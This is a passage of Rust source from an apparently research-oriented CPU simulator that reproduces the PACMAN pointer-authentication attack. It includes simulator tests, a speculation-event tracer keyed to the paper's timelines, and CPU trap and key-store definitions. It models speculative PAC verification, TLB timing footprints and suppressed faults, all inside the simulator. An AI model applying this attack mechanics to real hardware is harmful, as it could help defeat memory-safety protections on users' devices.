        assert_eq!(restored.stats, m.stats);
        let (mut reg_a, mut reg_b) = (Registry::new(), Registry::new());
        m.export_telemetry(&mut reg_a);
        restored.export_telemetry(&mut reg_b);
        assert_eq!(reg_a.snapshot(), reg_b.snapshot(), "telemetry must be bit-identical");

        // Truncating the snapshot anywhere is a typed error, never a
        // panic (spot-check a spread of prefixes; every byte would be
        // slow against a full memory image).
        for cut in [0, 1, bytes.len() / 3, bytes.len() / 2, bytes.len() - 1] {
            let mut broken = machine();
            let mut r = pacman_telemetry::bin::Reader::new(&bytes[..cut]);
            assert!(broken.restore_state(&mut r).is_err(), "cut at {cut}");
        }
    }

    #[test]
    fn alu_and_mov_semantics() {
        let mut m = machine();
        let mut a = Asm::new();
        a.mov_imm64(Reg::X0, 40);
        a.push(Inst::AddImm { rd: Reg::X1, rn: Reg::X0, imm: 2 });
        a.push(Inst::SubReg { rd: Reg::X2, rn: Reg::X1, rm: Reg::X0 });
        a.push(Inst::LslImm { rd: Reg::X3, rn: Reg::X1, shift: 4 });
        a.push(Inst::Hlt);
        run_user(&mut m, &a.assemble().unwrap());
        assert_eq!(m.cpu.get(Reg::X1), 42);
        assert_eq!(m.cpu.get(Reg::X2), 2);
        assert_eq!(m.cpu.get(Reg::X3), 42 << 4);
    }

    #[test]
    fn movn_csel_and_bit_branches() {
        let mut m = machine();
        let mut a = Asm::new();
        let bit_set = a.new_label();
        let done = a.new_label();
        a.push(Inst::MovN { rd: Reg::X0, imm: 0, shift: 0 }); // x0 = !0 = u64::MAX
        a.push(Inst::CmpImm { rn: Reg::X1, imm: 5 });
        a.mov_imm64(Reg::X2, 100);
        a.mov_imm64(Reg::X3, 200);
        // x4 = (x1 < 5) ? x2 : x3; with x1 = 0 -> 100.
        a.push(Inst::Csel { rd: Reg::X4, rn: Reg::X2, rm: Reg::X3, cond: pacman_isa::Cond::Lt });
        // tbnz on bit 63 of x0 (set) -> branch taken.
        a.tbnz(Reg::X0, 63, bit_set);
        a.mov_imm64(Reg::X5, 1); // skipped
        a.b(done);
        a.bind(bit_set);
        a.mov_imm64(Reg::X5, 2);
        a.bind(done);
        // tbz on bit 0 of x4 (100 -> bit0 = 0) -> taken.
        let even = a.new_label();
        a.tbz(Reg::X4, 0, even);
        a.mov_imm64(Reg::X6, 1);
        a.bind(even);
        a.push(Inst::Hlt);
        run_user(&mut m, &a.assemble().unwrap());
        assert_eq!(m.cpu.get(Reg::X0), u64::MAX);
        assert_eq!(m.cpu.get(Reg::X4), 100);
        assert_eq!(m.cpu.get(Reg::X5), 2, "tbnz must have taken the branch");
        assert_eq!(m.cpu.get(Reg::X6), 0, "tbz must have skipped the mov");
    }

    #[test]
    fn pair_loads_and_stores() {
        let mut m = machine();
        m.map_page(USER_DATA, Perms::user_rw());
        let mut a = Asm::new();
        a.mov_imm64(Reg::X0, USER_DATA + 0x100);
        a.mov_imm64(Reg::X1, 0x1111_2222_3333_4444);
        a.mov_imm64(Reg::X2, 0x5555_6666_7777_8888);
        a.push(Inst::Stp { rt: Reg::X1, rt2: Reg::X2, rn: Reg::X0, offset: 16 });
        a.push(Inst::Ldp { rt: Reg::X3, rt2: Reg::X4, rn: Reg::X0, offset: 16 });
        a.push(Inst::Hlt);
        run_user(&mut m, &a.assemble().unwrap());
        assert_eq!(m.cpu.get(Reg::X3), 0x1111_2222_3333_4444);
        assert_eq!(m.cpu.get(Reg::X4), 0x5555_6666_7777_8888);
        assert_eq!(m.mem.debug_read_u64(USER_DATA + 0x118), Some(0x5555_6666_7777_8888));
    }

    #[test]
    fn loads_and_stores_roundtrip_through_memory() {
        let mut m = machine();
        m.map_page(USER_DATA, Perms::user_rw());
        let mut a = Asm::new();
        a.mov_imm64(Reg::X0, USER_DATA + 0x100);
        a.mov_imm64(Reg::X1, 0xDEAD_BEEF_1234_5678);
        a.push(Inst::Str { rt: Reg::X1, rn: Reg::X0, offset: 0 });
        a.push(Inst::Ldr { rt: Reg::X2, rn: Reg::X0, offset: 0 });
        a.push(Inst::Ldrb { rt: Reg::X3, rn: Reg::X0, offset: 0 });
        a.push(Inst::Hlt);
        run_user(&mut m, &a.assemble().unwrap());
        assert_eq!(m.cpu.get(Reg::X2), 0xDEAD_BEEF_1234_5678);
        assert_eq!(m.cpu.get(Reg::X3), 0x78);
        assert_eq!(m.mem.debug_read_u64(USER_DATA + 0x100), Some(0xDEAD_BEEF_1234_5678));
    }

    #[test]
    fn loops_and_conditionals_execute() {
        // sum 1..=10 via a loop
        let mut m = machine();
        let mut a = Asm::new();
        let top = a.new_label();
        a.mov_imm64(Reg::X0, 10);
        a.mov_imm64(Reg::X1, 0);
        a.bind(top);
        a.push(Inst::AddReg { rd: Reg::X1, rn: Reg::X1, rm: Reg::X0 });
        a.push(Inst::SubImm { rd: Reg::X0, rn: Reg::X0, imm: 1 });
        a.cbnz(Reg::X0, top);
        a.push(Inst::Hlt);
        run_user(&mut m, &a.assemble().unwrap());
        assert_eq!(m.cpu.get(Reg::X1), 55);
    }

    #[test]
    fn architectural_pac_roundtrip() {
        let mut m = machine();
        m.cpu.keys.write_half(SysReg::ApiaKeyLo, 0x1234);
        m.cpu.keys.write_half(SysReg::ApiaKeyHi, 0x5678);
        m.map_page(USER_DATA, Perms::user_rw());
        let mut a = Asm::new();
        a.mov_imm64(Reg::X0, USER_DATA + 8);
        a.mov_imm64(Reg::X1, 0x77);
        a.push(Inst::Pac { key: PacKey::Ia, rd: Reg::X0, modifier: PacModifier::Reg(Reg::X1) });
        a.push(Inst::MovReg { rd: Reg::X4, rn: Reg::X0 }); // keep signed copy
        a.push(Inst::Aut { key: PacKey::Ia, rd: Reg::X0, modifier: PacModifier::Reg(Reg::X1) });
        a.push(Inst::Ldr { rt: Reg::X2, rn: Reg::X0, offset: 0 }); // must not fault
        a.push(Inst::Hlt);
        run_user(&mut m, &a.assemble().unwrap());
        assert_eq!(m.cpu.get(Reg::X0), USER_DATA + 8, "AUT strips the PAC");
        assert_ne!(m.cpu.get(Reg::X4), USER_DATA + 8, "PAC must actually sign");
    }

    #[test]
    fn architectural_aut_failure_crashes_on_use() {
        let mut m = machine();
        m.cpu.keys.write_half(SysReg::ApiaKeyLo, 0x9999);
        m.map_page(USER_DATA, Perms::user_rw());
        let mut a = Asm::new();
        a.mov_imm64(Reg::X0, USER_DATA + 8);
        a.mov_imm64(Reg::X1, 0x77);
        a.push(Inst::Pac { key: PacKey::Ia, rd: Reg::X0, modifier: PacModifier::Reg(Reg::X1) });
        a.mov_imm64(Reg::X1, 0x78); // wrong modifier
        a.push(Inst::Aut { key: PacKey::Ia, rd: Reg::X0, modifier: PacModifier::Reg(Reg::X1) });
        a.push(Inst::Ldr { rt: Reg::X2, rn: Reg::X0, offset: 0 }); // faults
        a.push(Inst::Hlt);
        let prog = a.assemble().unwrap();
        m.map_region(USER_CODE, 4 * prog.len() as u64, Perms::user_rwx());
        m.load_program(USER_CODE, &prog);
        m.cpu.pc = USER_CODE;
        let err = m.run(1000).unwrap_err();
        assert!(matches!(err, Trap::TranslationFault { access: AccessKind::Load, .. }));
    }

    #[test]
    fn el0_cannot_touch_kernel_pages_or_key_registers() {
        let mut m = machine();
        let kva = 0xFFFF_FFF0_0000_0000u64;
        m.map_page(kva, Perms::kernel_rw());
        let mut a = Asm::new();
        a.mov_imm64(Reg::X0, kva);
        a.push(Inst::Ldr { rt: Reg::X1, rn: Reg::X0, offset: 0 });
        let prog = a.assemble().unwrap();
        m.map_region(USER_CODE, 64, Perms::user_rwx());
        m.load_program(USER_CODE, &prog);
        m.cpu.pc = USER_CODE;
        assert!(matches!(m.run(10), Err(Trap::PermissionFault { .. })));

        let mut a = Asm::new();
        a.push(Inst::Mrs { rd: Reg::X0, sysreg: SysReg::ApiaKeyLo });
        let prog = a.assemble().unwrap();
        m.load_program(USER_CODE, &prog);
        m.cpu.pc = USER_CODE;
        assert!(matches!(m.run(10), Err(Trap::SysRegAccess { .. })));
    }

    #[test]
    fn timed_loads_distinguish_dtlb_hits_from_misses() {
        let mut m = machine();
        m.set_timing_source(TimingSource::MultiThread);
        m.map_page(USER_DATA, Perms::user_rw());
        // First access: walk (slow). Second: everything hot (fast).
        let cold = m.timed_user_load(USER_DATA).unwrap();
        let hot = m.timed_user_load(USER_DATA).unwrap();
        assert!(hot <= 27, "hot load measured {hot} ticks");
        assert!(cold >= 32, "cold load measured {cold} ticks");
    }

    #[test]
    fn mispredicted_branch_opens_a_speculative_shadow() {
        let mut m = machine();
        m.map_page(USER_DATA, Perms::user_rw());
        let secret = USER_DATA + 0x2000;
        m.map_page(secret, Perms::user_rw());

        // if (x1 != 0) load [x2];  — train taken, then flip.
        let mut a = Asm::new();
        let skip = a.new_label();
        a.cbz(Reg::X1, skip);
        a.push(Inst::Ldr { rt: Reg::X3, rn: Reg::X2, offset: 0 });
        a.bind(skip);
        a.push(Inst::Hlt);
        let prog = a.assemble().unwrap();
        m.map_region(USER_CODE, 64, Perms::user_rwx());
        m.load_program(USER_CODE, &prog);

        // Train: x1=1 (branch not taken at cbz — i.e. fall through to the
        // load) so the predictor learns "not taken".
        for _ in 0..4 {
            m.cpu.pc = USER_CODE;
            m.cpu.set(Reg::X1, 1);
            m.cpu.set(Reg::X2, USER_DATA);
            m.run(100).unwrap();
        }
        // Flush the secret page's TLB entry footprint, then run with x1=0:
        // architecturally the load is skipped, but the wrong path executes
        // it speculatively.
        m.mem.tlbs.flush();
        let episodes_before = m.stats.spec_episodes;
        m.cpu.pc = USER_CODE;
        m.cpu.set(Reg::X1, 0);
        m.cpu.set(Reg::X2, secret);
        m.run(100).unwrap();
        assert_eq!(m.stats.spec_episodes, episodes_before + 1);
        assert_eq!(m.cpu.get(Reg::X3), 0, "architectural state untouched");
        assert!(
            m.mem.tlbs.dtlb().contains(VirtualAddress::new(secret).vpn()),
            "speculative load must leave a dTLB footprint"
        );
    }

    #[test]
    fn speculative_faults_are_suppressed() {
        let mut m = machine();
        let mut a = Asm::new();
        let skip = a.new_label();
        a.cbz(Reg::X1, skip);
        a.push(Inst::Ldr { rt: Reg::X3, rn: Reg::X2, offset: 0 });
        a.bind(skip);
        a.push(Inst::Hlt);
        let prog = a.assemble().unwrap();
        m.map_region(USER_CODE, 64, Perms::user_rwx());
        m.map_page(USER_DATA, Perms::user_rw());
        m.load_program(USER_CODE, &prog);
        for _ in 0..4 {
            m.cpu.pc = USER_CODE;
            m.cpu.set(Reg::X1, 1);
            m.cpu.set(Reg::X2, USER_DATA);
            m.run(100).unwrap();
        }
        m.cpu.pc = USER_CODE;
        m.cpu.set(Reg::X1, 0);
        m.cpu.set(Reg::X2, 0x00F0_DEAD_0000_0000); // non-canonical
        let before = m.stats.spec_faults_suppressed;
        m.run(100).expect("speculative fault must not become architectural");
        assert_eq!(m.stats.spec_faults_suppressed, before + 1);
    }

    #[test]
    fn svc_eret_roundtrip_runs_kernel_code() {
        let mut m = machine();
        let kcode = 0xFFFF_FFF0_0010_0000u64;
        m.map_region(kcode, 256, Perms::kernel_rx());
        // Kernel: x0 = x16 + 1; eret.
        let mut k = Asm::new();
        k.push(Inst::AddImm { rd: Reg::X0, rn: Reg::X16, imm: 1 });
        k.push(Inst::Eret);
        let kprog = k.assemble().unwrap();
        {
            // kernel pages are not debug-writable via user perms; write via phys
            for (i, inst) in kprog.iter().enumerate() {
                let w = encode(inst).unwrap();
                let pa = m
                    .mem
                    .tables
                    .translate(&m.mem.phys, VirtualAddress::new(kcode + 4 * i as u64))
                    .unwrap();
                m.mem.phys.write_u32(pa, w);
            }
        }
        m.set_vbar(kcode);
        let mut a = Asm::new();
        a.mov_imm64(Reg::X16, 41);
        a.push(Inst::Svc { imm: 0 });
        a.push(Inst::Hlt);
        run_user(&mut m, &a.assemble().unwrap());
        assert_eq!(m.cpu.get(Reg::X0), 42);
        assert_eq!(m.cpu.el, El::El0);
        assert_eq!(m.stats.syscalls, 1);
    }

    #[test]
    fn pmcr0_gate_controls_el0_pmc0_reads() {
        let mut m = machine();
        m.set_timing_source(TimingSource::Pmc0);
        assert!(m.read_timer().is_none(), "PMC0 must trap at EL0 by default");
        m.timers.pmc0_el0_enabled = true; // what the kext does
        assert!(m.read_timer().is_some());
    }

    /// A sum-loop whose backward branch mispredicts on the cold first
    /// iteration and again at the exit — two speculation shadows.
    fn mispredicting_loop() -> Vec<Inst> {
        let mut a = Asm::new();
        let top = a.new_label();
        a.mov_imm64(Reg::X0, 10);
        a.mov_imm64(Reg::X1, 0);
        a.bind(top);
        a.push(Inst::AddReg { rd: Reg::X1, rn: Reg::X1, rm: Reg::X0 });
        a.push(Inst::SubImm { rd: Reg::X0, rn: Reg::X0, imm: 1 });
        a.cbnz(Reg::X0, top);
        a.push(Inst::Hlt);
        a.assemble().unwrap()
    }

    #[test]
    fn predict_stats_count_conditional_outcomes() {
        let mut m = machine();
        run_user(&mut m, &mispredicting_loop());
        let p = m.predict_stats;
        // Ten cbnz executions: the cold weakly-not-taken counter misses
        // the first taken iteration, and the saturated counter misses the
        // final not-taken exit.
        assert!(p.bimodal_mispredicts >= 2, "got {p:?}");
        assert!(p.bimodal_correct >= 7, "got {p:?}");
        assert_eq!(p.bimodal_correct + p.bimodal_mispredicts, 10);
    }

    #[test]
    fn spec_depth_histogram_records_one_entry_per_shadow() {
        let mut m = machine();
        run_user(&mut m, &mispredicting_loop());
        assert!(m.stats.spec_episodes > 0);
        assert_eq!(m.spec_depth.count(), m.stats.spec_episodes);
    }

    #[test]
    fn rsb_predicts_returns() {
        let mut m = machine();
        let mut a = Asm::new();
        let func = a.new_label();
        let done = a.new_label();
        a.bl(func);
        a.b(done);
        a.bind(func);
        a.push(Inst::Ret);
        a.bind(done);
        a.push(Inst::Hlt);
        run_user(&mut m, &a.assemble().unwrap());
        assert_eq!(m.predict_stats.rsb_hits, 1);
        assert_eq!(m.predict_stats.rsb_underflows, 0);
        assert_eq!(m.predict_stats.ret_mispredicts, 0);
    }

    #[test]
    fn export_telemetry_emits_canonical_counters() {
        let mut m = machine();
        run_user(&mut m, &mispredicting_loop());
        let mut reg = Registry::new();
        m.export_telemetry(&mut reg);
        assert!(reg.counter_value("tlb.itlb.user.hits") > 0);
        assert!(reg.counter_value("tlb.itlb.user.misses") > 0);
        assert!(reg.counter_value("cache.l1i.hits") > 0);
        assert_eq!(reg.counter_value("cpu.retired"), m.stats.retired);
        assert_eq!(
            reg.counter_value("predict.bimodal.mispredicts"),
            m.predict_stats.bimodal_mispredicts
        );
        let h = reg.histogram("spec.depth").expect("depth histogram exported");
        assert_eq!(h.count(), m.stats.spec_episodes);

        let mut off = Registry::disabled();
        m.export_telemetry(&mut off);
        assert!(off.is_empty(), "a disabled registry must stay empty");
    }

    #[test]
    fn with_trace_scopes_recording_and_restores_prior_state() {
        let mut m = machine();
        m.trace.enable();
        let (_, events) = m.with_trace(|m| run_user(m, &mispredicting_loop()));
        assert!(events.iter().any(|e| matches!(e, SpecEvent::ShadowOpened { .. })));
        assert!(m.trace.is_enabled(), "prior enabled flag restored");
        assert!(m.trace.events().is_empty(), "scoped events must not leak out");
    }

    /// A program that patches two of its own instruction slots with one
    /// 64-bit store before control reaches them, then runs a PAC/AUT loop
    /// (exercising both block-cache invalidation and the PAC memo).
    fn self_modifying_pac_program() -> Vec<Inst> {
        let patched = encode(&Inst::MovZ { rd: Reg::X5, imm: 42, shift: 0 }).unwrap();
        let nop = encode(&Inst::Nop).unwrap();
        let patch_words = u64::from(patched) | (u64::from(nop) << 32);
        let mut a = Asm::new();
        a.mov_imm64(Reg::X1, USER_CODE + 4 * 16); // patch site: slots 16 and 17
        a.mov_imm64(Reg::X2, patch_words);
        a.push(Inst::Str { rt: Reg::X2, rn: Reg::X1, offset: 0 });
        a.mov_imm64(Reg::X0, 5); // PAC/AUT loop count
        a.mov_imm64(Reg::X3, USER_DATA + 8);
        while a.len() < 16 {
            a.push(Inst::Nop);
        }
        // Slots 16/17: overwritten by the store above before first fetch.
        a.push(Inst::MovZ { rd: Reg::X5, imm: 7, shift: 0 });
        a.push(Inst::MovZ { rd: Reg::X5, imm: 9, shift: 0 });
        let top = a.new_label();
        a.bind(top);
        a.push(Inst::Pac { key: PacKey::Ia, rd: Reg::X3, modifier: PacModifier::Zero });
        a.push(Inst::Aut { key: PacKey::Ia, rd: Reg::X3, modifier: PacModifier::Zero });
        a.push(Inst::SubImm { rd: Reg::X0, rn: Reg::X0, imm: 1 });
        a.cbnz(Reg::X0, top);
        a.push(Inst::Hlt);
        a.assemble().unwrap()
    }

    #[test]
    fn cached_engine_is_bit_identical_to_interpreted() {
        let program = self_modifying_pac_program();
        let mut cached = machine();
        cached.cpu.keys.write_half(SysReg::ApiaKeyLo, 0xfeed);
        let mut interp = Machine::new(MachineConfig {
            os_noise: 0.0,
            engine: ExecEngine::Interpreted,
            ..MachineConfig::default()
        });
        interp.cpu.keys.write_half(SysReg::ApiaKeyLo, 0xfeed);
        run_user(&mut cached, &program);
        run_user(&mut interp, &program);

        assert_eq!(cached.cpu.get(Reg::X5), 42, "patched instruction must execute");
        assert_eq!(cached.cpu.regs, interp.cpu.regs);
        assert_eq!(cached.cpu.pc, interp.cpu.pc);
        assert_eq!(cached.cycles, interp.cycles, "engines must agree on simulated time");
        assert_eq!(cached.stats.retired, interp.stats.retired);

        let bs = cached.block_cache_stats();
        assert!(bs.hits > 0, "the PAC/AUT loop must dispatch from the arena");
        assert!(bs.invalidations >= 1, "the self-modifying store must flush the cache");
        assert!(cached.pac_memo_hits > 0, "repeated AUTs must hit the memo");
        let ibs = interp.block_cache_stats();
        assert_eq!((ibs.hits, ibs.misses, ibs.decoded), (0, 0, 0));
        assert_eq!(interp.pac_memo_hits + interp.pac_memo_misses, 0);
    }

    #[test]
    fn memoised_pac_matches_ptr_semantics_and_survives_key_changes() {
        let mut m = machine();
        m.cpu.keys.write_half(SysReg::ApiaKeyLo, 0xdead_beef);
        let pointers = [USER_DATA, USER_DATA + 8, 0xFFFF_FFF0_0000_0010u64, 0];
        m.warm_pac_memo(PacKey::Ia, &pointers, 0x77);
        for &p in &pointers {
            let pacs = m.cpu.pac_computer(PacKey::Ia);
            assert_eq!(m.sign_pac(PacKey::Ia, p, 0x77), ptr::sign(&pacs, p, 0x77));
            let signed = m.sign_pac(PacKey::Ia, p, 0x77);
            assert_eq!(
                m.auth_pac(PacKey::Ia, signed, 0x77),
                ptr::authenticate(&pacs, signed, 0x77, PacKey::Ia)
            );
        }
        assert!(m.pac_memo_hits >= pointers.len() as u64, "warming must pre-fill the memo");

        // Changing the key must not serve stale PACs (the memo is keyed
        // by key value, so no explicit flush exists to get wrong).
        let before = m.sign_pac(PacKey::Ia, USER_DATA, 0x77);
        m.cpu.keys.write_half(SysReg::ApiaKeyLo, 0x1234_5678);
        let after = m.sign_pac(PacKey::Ia, USER_DATA, 0x77);
        let pacs = m.cpu.pac_computer(PacKey::Ia);
        assert_eq!(after, ptr::sign(&pacs, USER_DATA, 0x77));
        assert_ne!(before, after, "key change must change the PAC");
    }

    #[test]
    fn reset_recycles_frames_bit_identically() {
        let program = self_modifying_pac_program();
        let mut pooled = machine();
        run_user(&mut pooled, &program);
        let first_cycles = pooled.cycles;
        let frames_before = pooled.mem.phys.frame_count();
        pooled.reset();
        assert_eq!(pooled.cycles, 0, "reset must rebuild from scratch");
        run_user(&mut pooled, &program);

        let mut fresh = machine();
        run_user(&mut fresh, &program);
        assert_eq!(pooled.cycles, first_cycles);
        assert_eq!(pooled.cycles, fresh.cycles, "pooled reset must be bit-identical");
        assert_eq!(pooled.cpu.regs, fresh.cpu.regs);
        assert_eq!(pooled.mem.phys.frame_count(), frames_before, "same frame layout");
    }

    #[test]
    #[should_panic(expected = "invalid machine configuration")]
    fn constructor_rejects_invalid_timer_ratio() {
        let _ =
            Machine::new(MachineConfig { system_counter_hz: u64::MAX, ..MachineConfig::default() });
    }

    #[test]
    fn try_new_reports_typed_config_errors() {
        let err =
            Machine::try_new(MachineConfig { system_counter_hz: 0, ..MachineConfig::default() })
                .unwrap_err();
        assert!(matches!(err, ConfigError::InvalidTimerRatio { .. }));
        assert!(Machine::try_new(MachineConfig::default()).is_ok());
    }
}
