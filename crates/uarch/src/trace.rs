//! Speculation event tracing — the Figure 3 timelines, observable.
//!
//! When enabled, the speculative engine records one event per
//! microarchitecturally relevant step of a wrong-path episode. The
//! sequence for a PACMAN gadget reproduces the paper's Figure 3(c)/(d)
//! timelines exactly: shadow opened (t1), `AUT` executed (t2/t3),
//! BTB-predicted fetch (t2, instruction gadget), eager squash + redirect
//! (t3/t4), transmit issued or speculative fault suppressed (t4/t5).
//!
//! Tracing is off by default (zero overhead in the common path beyond a
//! branch) and is a debugging/teaching aid, not part of the attack.

/// One recorded speculation event.
#[derive(Clone, Eq, PartialEq, Debug)]
pub enum SpecEvent {
    /// A mispredicted branch opened a speculation shadow (t1).
    ShadowOpened {
        /// PC of the mispredicted branch.
        branch_pc: u64,
        /// First wrong-path PC.
        wrong_path_pc: u64,
    },
    /// A pointer-authentication instruction executed on the wrong path
    /// (t2..t3).
    AutExecuted {
        /// Wrong-path PC of the `AUT`.
        pc: u64,
        /// Whether the embedded PAC verified.
        valid: bool,
        /// The pointer written back (canonical or corrupted).
        result: u64,
    },
    /// A wrong-path load/store was issued to the memory hierarchy — the
    /// data-gadget transmit (t3).
    SpecAccessIssued {
        /// Wrong-path PC.
        pc: u64,
        /// Virtual address touched.
        va: u64,
    },
    /// An indirect branch fetched its BTB-predicted target while its
    /// operand resolved (t2, Figure 3(d)).
    BtbPredictedFetch {
        /// Wrong-path PC of the indirect branch.
        pc: u64,
        /// Predicted target.
        predicted: u64,
    },
    /// The inner branch was eagerly squashed and fetch redirected to the
    /// resolved target — the instruction-gadget transmit (t3/t4).
    EagerSquashRedirect {
        /// Wrong-path PC of the indirect branch.
        pc: u64,
        /// Resolved target (the verified pointer).
        actual: u64,
    },
    /// A wrong-path access faulted; the fault was suppressed (t4/t5).
    FaultSuppressed {
        /// Wrong-path PC.
        pc: u64,
        /// Faulting address.
        va: u64,
    },
    /// A mitigation blocked a wrong-path action.
    MitigationBlocked {
        /// Wrong-path PC.
        pc: u64,
        /// Which mechanism fired.
        what: &'static str,
    },
    /// The shadow closed (squash of the outer branch, t4/t5).
    ShadowClosed {
        /// Wrong-path instructions executed.
        instructions: u32,
    },
}

impl std::fmt::Display for SpecEvent {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SpecEvent::ShadowOpened { branch_pc, wrong_path_pc } => {
                write!(f, "t1: branch {branch_pc:#x} mispredicts; wrong path starts at {wrong_path_pc:#x}")
            }
            SpecEvent::AutExecuted { pc, valid, result } => write!(
                f,
                "t2: AUT at {pc:#x} -> {} pointer {result:#x}",
                if *valid { "VALID" } else { "corrupt" }
            ),
            SpecEvent::SpecAccessIssued { pc, va } => {
                write!(f, "t3: transmit at {pc:#x} issues access to {va:#x} (TLB fill)")
            }
            SpecEvent::BtbPredictedFetch { pc, predicted } => {
                write!(f, "t2: BR2 at {pc:#x} fetches BTB-predicted {predicted:#x}")
            }
            SpecEvent::EagerSquashRedirect { pc, actual } => {
                write!(f, "t3: eager squash of BR2 at {pc:#x}; fetch redirected to {actual:#x}")
            }
            SpecEvent::FaultSuppressed { pc, va } => {
                write!(f, "t4: access to {va:#x} at {pc:#x} faults speculatively (suppressed)")
            }
            SpecEvent::MitigationBlocked { pc, what } => {
                write!(f, "--: {what} blocks the wrong path at {pc:#x}")
            }
            SpecEvent::ShadowClosed { instructions } => {
                write!(f, "t5: outer branch squashed after {instructions} wrong-path instructions")
            }
        }
    }
}

/// The recorder attached to a machine.
#[derive(Clone, Debug, Default)]
pub struct SpecTrace {
    enabled: bool,
    events: Vec<SpecEvent>,
}

impl SpecTrace {
    /// Starts recording (clears previous events).
    pub fn enable(&mut self) {
        self.enabled = true;
        self.events.clear();
    }

    /// Stops recording.
    pub fn disable(&mut self) {
        self.enabled = false;
    }

    /// Whether events are being recorded.
    pub fn is_enabled(&self) -> bool {
        self.enabled
    }

    /// Discards recorded events without changing the enabled flag.
    pub fn clear(&mut self) {
        self.events.clear();
    }

    /// Takes the recorded events, leaving the recorder empty.
    pub fn take(&mut self) -> Vec<SpecEvent> {
        std::mem::take(&mut self.events)
    }

    /// Read-only view of the recorded events.
    pub fn events(&self) -> &[SpecEvent] {
        &self.events
    }

    pub(crate) fn record(&mut self, event: SpecEvent) {
        if self.enabled {
            self.events.push(event);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn disabled_recorder_drops_events() {
        let mut t = SpecTrace::default();
        t.record(SpecEvent::ShadowClosed { instructions: 1 });
        assert!(t.events().is_empty());
        t.enable();
        t.record(SpecEvent::ShadowClosed { instructions: 2 });
        assert_eq!(t.events().len(), 1);
        let taken = t.take();
        assert_eq!(taken.len(), 1);
        assert!(t.events().is_empty());
    }

    #[test]
    fn clear_keeps_recording() {
        let mut t = SpecTrace::default();
        t.enable();
        t.record(SpecEvent::ShadowClosed { instructions: 1 });
        t.clear();
        assert!(t.events().is_empty());
        assert!(t.is_enabled(), "clear must not stop the recorder");
        t.record(SpecEvent::ShadowClosed { instructions: 2 });
        assert_eq!(t.events().len(), 1);
    }

    #[test]
    fn events_render_as_timeline_lines() {
        let e = SpecEvent::EagerSquashRedirect { pc: 0x40, actual: 0x8000 };
        assert!(e.to_string().contains("eager squash"));
        let e = SpecEvent::FaultSuppressed { pc: 0x44, va: 0xBAD };
        assert!(e.to_string().contains("suppressed"));
    }
}
