//! Architectural CPU state: registers, exception levels, PA keys, traps.

use pacman_isa::{PacKey, Reg, SysReg};
use pacman_qarma::{PacComputer, QarmaKey};

/// Exception level (paper §5: EL0 = user, EL1 = kernel).
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug, Default)]
pub enum El {
    /// Unprivileged user mode.
    #[default]
    El0,
    /// Supervisor (kernel) mode.
    El1,
}

/// What kind of memory access faulted.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub enum AccessKind {
    /// Data load.
    Load,
    /// Data store.
    Store,
    /// Instruction fetch.
    Fetch,
}

/// Architecturally visible faults. A trap at EL1 is a kernel panic — the
/// "crash" that Pointer Authentication's security argument rests on and
/// that the PACMAN attack avoids by keeping faults speculative.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub enum Trap {
    /// The address is non-canonical or unmapped.
    TranslationFault {
        /// Faulting virtual address (possibly a corrupted pointer).
        va: u64,
        /// Level at which the access executed.
        el: El,
        /// Access kind.
        access: AccessKind,
    },
    /// The mapping exists but forbids this access.
    PermissionFault {
        /// Faulting virtual address.
        va: u64,
        /// Level at which the access executed.
        el: El,
        /// Access kind.
        access: AccessKind,
    },
    /// `MRS`/`MSR` of a register not accessible at this level.
    SysRegAccess {
        /// The register involved.
        reg: SysReg,
        /// Level of the faulting access.
        el: El,
    },
    /// The fetched word is not a valid instruction.
    Decode {
        /// PC of the bad word.
        pc: u64,
    },
    /// `SVC` executed with no syscall vector installed, or at EL1.
    BadSvc {
        /// PC of the `SVC`.
        pc: u64,
    },
    /// `ERET` with no saved context.
    BadEret {
        /// PC of the `ERET`.
        pc: u64,
    },
}

impl std::fmt::Display for Trap {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Trap::TranslationFault { va, el, access } => {
                write!(f, "translation fault at {va:#x} ({access:?} at {el:?})")
            }
            Trap::PermissionFault { va, el, access } => {
                write!(f, "permission fault at {va:#x} ({access:?} at {el:?})")
            }
            Trap::SysRegAccess { reg, el } => write!(f, "illegal access to {reg} at {el:?}"),
            Trap::Decode { pc } => write!(f, "undefined instruction at {pc:#x}"),
            Trap::BadSvc { pc } => write!(f, "svc without a kernel at {pc:#x}"),
            Trap::BadEret { pc } => write!(f, "eret without saved context at {pc:#x}"),
        }
    }
}

impl std::error::Error for Trap {}

/// EL0 context saved on syscall entry, restored by `ERET`.
#[derive(Clone, Debug)]
pub struct SavedContext {
    /// General-purpose registers.
    pub regs: [u64; 31],
    /// EL0 stack pointer.
    pub sp: u64,
    /// Return PC (instruction after the `SVC`).
    pub pc: u64,
}

/// The five 128-bit PA key registers (paper §2.2: up to five keys in
/// hardware, selected by opcode).
#[derive(Copy, Clone, Eq, PartialEq, Debug, Default)]
pub struct KeyStore {
    ia: u128,
    ib: u128,
    da: u128,
    db: u128,
    ga: u128,
}

impl KeyStore {
    /// The key selected by a `PAC`/`AUT` opcode.
    pub fn get(&self, key: PacKey) -> u128 {
        match key {
            PacKey::Ia => self.ia,
            PacKey::Ib => self.ib,
            PacKey::Da => self.da,
            PacKey::Db => self.db,
        }
    }

    /// The generic key used by `PACGA`.
    pub fn ga(&self) -> u128 {
        self.ga
    }

    fn slot_mut(&mut self, reg: SysReg) -> Option<(&mut u128, bool)> {
        // (slot, is_high_half)
        Some(match reg {
            SysReg::ApiaKeyLo => (&mut self.ia, false),
            SysReg::ApiaKeyHi => (&mut self.ia, true),
            SysReg::ApibKeyLo => (&mut self.ib, false),
            SysReg::ApibKeyHi => (&mut self.ib, true),
            SysReg::ApdaKeyLo => (&mut self.da, false),
            SysReg::ApdaKeyHi => (&mut self.da, true),
            SysReg::ApdbKeyLo => (&mut self.db, false),
            SysReg::ApdbKeyHi => (&mut self.db, true),
            SysReg::ApgaKeyLo => (&mut self.ga, false),
            SysReg::ApgaKeyHi => (&mut self.ga, true),
            _ => return None,
        })
    }

    /// Writes one half of a key register; returns false if `reg` is not a
    /// key register.
    pub fn write_half(&mut self, reg: SysReg, value: u64) -> bool {
        match self.slot_mut(reg) {
            Some((slot, true)) => {
